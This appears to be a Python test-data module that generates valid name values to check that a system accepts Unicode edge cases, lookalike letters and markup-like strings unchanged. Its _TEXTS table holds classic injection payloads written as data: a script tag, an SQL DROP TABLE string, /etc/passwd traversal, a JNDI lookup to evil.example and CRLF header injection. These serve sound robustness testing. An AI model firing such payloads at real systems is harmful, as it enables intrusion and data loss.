"""Names that follow every rule, however strange they look (SPEC, section 2)."""

from hostile.code_points import just_outside
from hostile.names import LONGEST
from hostile.row import Template
from neighbours.row import Accepted


def rows(template: Template) -> list[Accepted]:
    return [
        Accepted.plain(template, f"{member}: {name}", {member: value})
        for member, longest in LONGEST.items()
        for name, value in (_lengths(longest) | _outside() | IN_NFC | _VISIBLE | _LOOKALIKES | _TEXTS).items()]


def _lengths(longest: int) -> dict[str, str]:
    """The shortest and the longest, counted in Unicode scalars."""
    return {
        "one letter": "a", "one emoji": "\U0001f600", "one combining mark": "\u0323",
        f"{longest} letters": "a" * longest, f"{longest - 1} letters": "a" * (longest - 1),
        f"{longest} letters outside ASCII": "\u00e9" * longest, f"{longest} letters of three bytes": "\u8868" * longest,
        f"{longest} emoji": "\U0001f600" * longest, f"{longest} private characters of plane 16": "\U0010fffd" * longest,
        f"{longest} scalars that are one character": "q" + "\u0323" * (longest - 1),
        f"{longest} scalars with joiners": "\u200d".join("\U0001f600" * (longest // 2 + 1))[:longest],
        f"{longest} quotes, twice as long when escaped": '"' * longest,
    }


def _outside() -> dict[str, str]:
    """Just beside the ranges that are ignorable by default."""
    return {f"U+{code:04X}": f"a{chr(code)}b" for code in just_outside()}


#: Each is its own NFC; `test_tables` asserts it.
IN_NFC = {
    "a composed letter": "Zo\u00eb", "a letter with two marks, composed": "\u1ea5",
    "a mark that composes with nothing": "q\u0301", "marks in order": "q\u0323\u0301",
    "marks of one class": "q\u0301\u0302", "a mark first": "\u0301a", "a Greek letter with its mark": "\u03ac",
    "a decomposed letter that is excluded from composition": "\u0915\u093c", "Hebrew yod and hiriq": "\u05d9\u05b4",
    "Hebrew shin and dot": "\u05e9\u05c1", "Tibetan ga and ha": "\u0f42\u0fb7", "a syllable of Hangul": "\uac00",
    "a syllable with a last jamo": "\uac01", "the last syllable": "\ud7a3", "a first jamo alone": "\u1100",
    "a vowel jamo alone": "\u1161", "a last jamo alone": "\u11a8", "a first and a last jamo": "\u1100\u11a8",
    "jamo of old Korean": "\u1113\u1161", "a syllable with a last, and another last": "\uac01\u11a8",
    "jamo with a space between": "\u1100 \u1161", "an A with a ring": "\u00c5", "a Latin K": "K", "an omega": "\u03a9",
    "kana, composed": "\u304c", "half-width kana and its mark": "\uff76\uff9e", "a compatibility letter": "\ufb01",
    "an ideograph": "\u8c48", "a letter, a joiner and a mark": "e\u200d\u0301",
}

_VISIBLE = {
    "ZWNJ": "\u0646\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645", "ZWJ": "\u0915\u094d\u200d\u0937",
    "ZWNJ alone": "\u200c", "ZWJ alone": "\u200d", "ZWNJ first": "\u200ca", "ZWJ last": "a\u200d",
    "a family of emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467", "a flag": "\U0001f1e9\U0001f1ea",
    "a skin colour": "\U0001f44b\U0001f3fd", "the first private character": "\ue000",
    "the last private character": "\uf8ff", "the first of plane 15": "\U000f0000", "the last of plane 15": "\U000ffffd",
    "the first of plane 16": "\U00100000", "the last of plane 16": "\U0010fffd", "an unassigned character": "\u0378",
    "an unassigned character of plane 14": "\U000e1000", "an unassigned character of plane 1": "\U0001fffd",
    "the object replacement": "\ufffc", "the replacement character": "\ufffd", "a space": " ", "spaces around": " a ",
    "two spaces": "a  b", "a no-break space": "a\u00a0b", "an ideographic space": "a\u3000b",
    "a thin space": "a\u2009b", "an Ogham space": "a\u1680b", "a blank of Braille": "\u2800",
    "Hebrew and Latin": "\u05d3\u05d5\u05d3 David", "Arabic": "\u0641\u0627\u0637\u0645\u0629",
    "Thai": "\u0e2a\u0e21\u0e0a\u0e32\u0e22", "the first character behind ASCII's controls": "!",
    "the last of ASCII": "~", "the first behind the C1 controls": "\u00a1", "the last below the surrogates": "\ud7fb",
    "the first beside the noncharacters": "\ufdf0", "the last before the noncharacters": "\ufdcf",
    "the first of plane 1": "\U00010000", "a cancelled line": "a\u0336b\u0336", "many marks": "a" + "\u0336" * 60,
}

#: Sent on as they are: a name is not judged by what it looks like.
_LOOKALIKES = {
    "Cyrillic letters": "\u041c\u0430\u0440\u0443", "one Cyrillic letter": "M\u0430ry",
    "Greek letters": "\u039c\u0391\u03a1\u0399\u0391", "full-width letters": "\uff2d\uff41\uff52\uff59",
    "mathematical letters": "\U0001d40c\U0001d41a\U0001d42b\U0001d432", "circled letters": "\u24c2\u24d0",
    "a dotless i": "Mar\u0131a", "a dotted capital I": "MAR\u0130A", "a long s": "Ro\u017fa", "a sharp s": "Wei\u00df",
    "a ligature": "\ufb01", "a Roman numeral": "Henry \u2167", "full-width digits": "\uff11",
    "a modifier letter": "Mary\u02bc", "an ideographic full stop": "a\u3002b", "a full-width @": "a\uff20b.example",
    "Cherokee letters": "\u13b7\u13ab", "a small capital": "\u1d0dary",
}

#: What other readers would take for markup, code or a member; in JSON it is a name.
_TEXTS = {
    "an address": "mary@evil.example", "a member": '"Email":"a@evil.example"',
    "an end and a member": 'a","Email":"a@evil.example', "an object": '{"IdentityInfo":{"Email":"a@evil.example"}}',
    "an escape": "\\u0045mail", "a backslash at the end": "a\\", "quotes": '""', "a form": "Email=a%40evil.example&x=y",
    "markup": "<script>alert(1)</script>", "an entity": "&#x41;&amp;", "an SQL quote": "Robert'); DROP TABLE users;--",
    "a path": "../../etc/passwd", "a template": "${jndi:ldap://evil.example}", "a format": "%s%n%x",
    "a formula": "=1+1", "a solidus": "a/b", "null": "null", "a number": "007", "a percent escape": "%0d%0aX: y",
    "a header": "X-Amz-Date: y",
}
